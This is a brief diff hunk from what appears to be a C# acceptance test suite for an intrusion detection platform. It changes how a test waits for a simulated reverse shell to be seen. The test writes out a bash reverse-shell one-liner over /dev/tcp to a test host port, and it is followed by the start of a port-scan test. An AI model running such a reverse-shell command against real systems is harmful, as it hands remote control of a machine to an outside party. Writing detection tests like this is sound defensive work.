@@ -159,7 +159,7 @@ public abstract class AcceptanceDetectionTests(PlatformApi api) : IDisposable
         // The reverse shell: the test host tells it to exit, and it does.
         var shell = agent.Workload(TestNetwork.Enter(client, "bash", "-c", $"bash -i >& /dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ShellPort} 0>&1"));
         await ExitsAsync(shell);
-        Assert.Single(network.Shells);
+        await Sensing.Until(() => Task.FromResult(!network.Shells.IsEmpty), "the test host to see the shell go", _api);
 
         // 30 closed ports of the test host, every attempt from the one bash.
         var scan = agent.Workload(TestNetwork.Enter(client, "bash", "-c",
